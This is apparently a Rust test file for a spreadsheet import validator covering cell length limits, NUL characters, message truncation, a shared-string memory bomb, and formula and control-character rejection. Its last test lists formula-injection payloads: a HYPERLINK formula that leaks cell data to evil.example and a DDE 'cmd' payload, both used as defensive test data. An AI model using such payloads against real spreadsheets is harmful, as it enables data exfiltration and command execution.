//! The bounds of any cell: more than 500 characters, NUL (from CSV and from a
//! workbook), a shared string too long for a cell referenced by many cells, and values
//! echoed in reasons cut at 50 characters.

use crate::imports::bounds::{echo, ImportLimits, ECHO_CHARS, MAX_CELL_CHARS, NUL_REASON};
use crate::imports::validate::{Validator, COLUMNS};
use crate::imports::workbook::tests::{with_part, with_sheet_xml};
use crate::imports::workbook::{read, read_rows, Cell, FileKind};

use super::{import, reference, sample_xlsx, with_cell_in_row_1, HEAD};

/// A one-quote file with the cell of `column` (0-based, D8 order) replaced.
fn one_row(column: usize, value: &str) -> String {
    let mut cells = ["20261120", "GPU_Index", "B200", "1", "250000"].map(str::to_owned);
    cells[column] = format!("\"{}\"", value.replace('"', "\"\""));
    format!("{HEAD}{}\n", cells.join(","))
}

#[test]
fn a_cell_of_more_than_500_characters_is_an_error_of_its_column() {
    let long = "Ä".repeat(400) + &"7".repeat(200);
    for (k, column) in COLUMNS.iter().enumerate() {
        let error = import(&one_row(k, &long)).expect_err(column);
        assert_eq!(error.errors.len(), 1, "{column}: {:?}", error.errors);
        let problem = &error.errors[0];
        assert_eq!((problem.row, problem.column.as_str()), (2, *column));
        assert_eq!(
            problem.reason,
            format!(
                "the cell holds 600 characters, more than the 500 a cell may hold: '{}…'",
                "Ä".repeat(ECHO_CHARS)
            )
        );
    }
    // 500 characters are within the bound (the specification's own limit is 200).
    import(&one_row(4, &"1".repeat(MAX_CELL_CHARS))).expect_err("too large a price");
    let error = import(&one_row(2, &"s".repeat(MAX_CELL_CHARS))).expect_err("long spec");
    assert_eq!(
        error.errors[0].reason,
        "the specification is 500 characters long; at most 200 are allowed"
    );
}

#[test]
fn a_header_cell_of_more_than_500_characters_is_echoed_short() {
    let long = "h".repeat(8_000_000);
    let csv = format!("trade_date,index_code,specification,weight,price,{long}\n1,2,3,4,5,6\n");
    let error = import(&csv).expect_err("rejected");
    assert_eq!(error.errors.len(), 1);
    let problem = &error.errors[0];
    let cut = format!("{}…", "h".repeat(ECHO_CHARS));
    assert_eq!(problem.column, cut);
    assert_eq!(
        problem.reason,
        format!(
            "the header cell in column F: the cell holds 8000000 characters, more than the \
             500 a cell may hold: '{cut}'"
        )
    );
}

#[test]
fn nul_in_any_column_is_an_error_of_its_row_and_no_quote() {
    for (k, column) in COLUMNS.iter().enumerate() {
        let good = ["20261120", "GPU_Index", "B200", "1", "250000"][k];
        let csv = one_row(k, &format!("{good}\0"));
        let reference = reference();
        let mut validator = Validator::new(&reference);
        let mut quotes = 0;
        read_rows(
            FileKind::Csv,
            csv.as_bytes(),
            &ImportLimits::default(),
            &mut |row| {
                quotes += usize::from(validator.row(&row).is_some());
                true
            },
        )
        .expect("readable");
        assert_eq!(quotes, 0, "no quote with NUL reaches the COPY ({column})");
        let rejection = validator.finish().expect_err(column);
        assert_eq!(rejection.total, 1);
        let problem = &rejection.errors[0];
        assert_eq!((problem.row, problem.column.as_str()), (2, *column));
        assert_eq!(
            problem.reason,
            "the cell holds a NUL character (code 0), which cannot be stored: remove it"
        );
    }
}

#[test]
fn nul_from_a_workbook_is_a_row_error_too() {
    // OOXML writes U+0000 as `_x0000_`, which calamine reads back as NUL.
    let bytes = with_part(&sample_xlsx(), "xl/sharedStrings.xml", |xml| {
        xml.replace("<t>250000.123456</t>", "<t>250000_x0000_</t>")
    });
    let sheet = read(FileKind::Xlsx, &bytes).expect("readable");
    assert_eq!(
        sheet.rows[1].cells[4],
        Cell::OutOfBounds {
            reason: NUL_REASON.into(),
            shown: "250000\u{FFFD}".into()
        }
    );
    let reference = reference();
    let mut validator = Validator::new(&reference);
    let quotes: Vec<u32> = sheet
        .rows
        .iter()
        .filter(|row| validator.row(row).is_some())
        .map(|row| row.number)
        .collect();
    assert_eq!(quotes, [3], "row 2 gives no quote");
    let rejection = validator.finish().expect_err("rejected");
    assert_eq!(rejection.total, 1);
    assert_eq!(
        (rejection.errors[0].row, rejection.errors[0].column.as_str()),
        (2, "price")
    );
}

#[test]
fn echoed_values_are_cut_at_fifty_characters() {
    let long = "q".repeat(120);
    let cut = format!("{}…", "q".repeat(ECHO_CHARS));
    assert_eq!(echo(&long), cut);
    assert_eq!(echo("short"), "short");
    assert_eq!(echo(&"é".repeat(ECHO_CHARS)), "é".repeat(ECHO_CHARS));
    assert_eq!(
        echo("a\0b"),
        "a\u{FFFD}b",
        "no NUL reaches a stored message"
    );

    let reason = |k: usize| {
        import(&one_row(k, &long)).expect_err("bad").errors[0]
            .reason
            .clone()
    };
    assert_eq!(reason(1), format!("unknown index code '{cut}'"));
    assert!(
        reason(0).starts_with(&format!("'{cut}' is not a date")),
        "{}",
        reason(0)
    );
    assert!(
        reason(4).starts_with(&format!("'{cut}' is not a number")),
        "{}",
        reason(4)
    );
    let digits = format!("0.{}", "1".repeat(100));
    assert_eq!(
        import(&one_row(3, &digits)).expect_err("places").errors[0].reason,
        format!(
            "the weight {}… has 100 decimal places; at most 8 are allowed",
            &digits[..ECHO_CHARS]
        )
    );

    // An unknown header name, as column and in the reason.
    let csv = format!("trade_date,index_code,specification,weight,price,{long}\n1,2,3,4,5,6\n");
    let error = import(&csv).expect_err("header");
    assert_eq!(error.errors[0].column, cut);
    assert!(error.errors[0]
        .reason
        .starts_with(&format!("unknown column '{cut}' (column F)")));
}

#[test]
fn a_long_date_time_value_of_a_workbook_is_echoed_short() {
    let value = format!("2026-11-20{}", "x".repeat(200));
    let bytes = with_cell_in_row_1(&format!("<c r=\"F1\" t=\"d\"><v>{value}</v></c>"));
    let sheet = read(FileKind::Xlsx, &bytes).expect("readable");
    let Cell::Invalid(what) = &sheet.rows[0].cells[5] else {
        panic!("{:?}", sheet.rows[0].cells[5]);
    };
    assert_eq!(what, &format!("the date-time value '{}'", echo(&value)));
    assert!(what.chars().count() < 100);
}

/// The shared-string bomb: one long string referenced by every cell of a row was copied
/// per reference (100 MiB x 32 references took 3.4 GB). Now each reference is judged by
/// the string's length and holds only the reason.
#[test]
fn a_long_shared_string_referenced_by_many_cells_is_judged_not_copied() {
    const REFERENCES: usize = 2_000;
    let long = "L".repeat(1 << 20);
    // The long string first in the table (the sample's own references shift by one,
    // to other strings of the table), and row 2 referencing it from every column.
    let bytes = with_part(&sample_xlsx(), "xl/sharedStrings.xml", |xml| {
        let start = xml.find("<sst").expect("sst");
        let open = start + xml[start..].find('>').expect("sst's end") + 1;
        format!("{}<si><t>{long}</t></si>{}", &xml[..open], &xml[open..])
    });
    let cells: String = (0..REFERENCES)
        .map(|c| {
            format!(
                "<c r=\"{}2\" t=\"s\"><v>0</v></c>",
                crate::imports::bounds::column_letter(c as u64)
            )
        })
        .collect();
    let bytes = with_sheet_xml(&bytes, |xml| {
        let start = xml.find("<row r=\"2\"").expect("row 2");
        let end = start + xml[start..].find("</row>").expect("end of row 2");
        format!("{}<row r=\"2\">{cells}{}", &xml[..start], &xml[end..])
    });
    let sheet = read(FileKind::Xlsx, &bytes).expect("readable");
    let row = &sheet.rows[1];
    assert_eq!(row.cells.len(), REFERENCES);
    let reason = format!(
        "the cell holds {} characters, more than the {MAX_CELL_CHARS} a cell may hold: '{}…'",
        1 << 20,
        "L".repeat(ECHO_CHARS)
    );
    for cell in &row.cells {
        assert_eq!(
            cell,
            &Cell::OutOfBounds {
                reason: reason.clone(),
                shown: format!("{}…", "L".repeat(ECHO_CHARS))
            }
        );
    }
}

#[test]
fn control_characters_bidi_overrides_and_formulas_in_a_specification_are_row_errors() {
    let cases = [
        (
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
            "starts with '='",
        ),
        ("@SUM(1+1)", "starts with '@'"),
        ("+1+1", "starts with '+'"),
        ("-2+3+cmd|' /C calc'!A0", "starts with '-'"),
        ("B200\u{1B}[2J", "the control character U+001B"),
        ("B200\u{7}", "the control character U+0007"),
        ("B200\u{8}x", "the control character U+0008"),
        ("B200\r\nx", "the control character U+000D"),
        ("B\u{85}200", "the control character U+0085"),
        (
            "B200\u{202E}x",
            "the bidirectional control character U+202E",
        ),
    ];
    for (name, says) in cases {
        let error = import(&one_row(2, name)).expect_err(name);
        assert_eq!(error.errors.len(), 1, "{name:?}: {:?}", error.errors);
        let problem = &error.errors[0];
        assert_eq!((problem.row, problem.column.as_str()), (2, "specification"));
        assert!(
            problem.reason.starts_with("the specification ") && problem.reason.contains(says),
            "{name:?}: {}",
            problem.reason
        );
    }
    // Names a spreadsheet shows as text stay accepted, exactly as written.
    for name in ["H100 - 80GB", "H100 @ 80GB", "a=b", "B200 \u{4E2D}"] {
        assert_eq!(import(&one_row(2, name)).expect(name), 1, "{name:?}");
    }
}
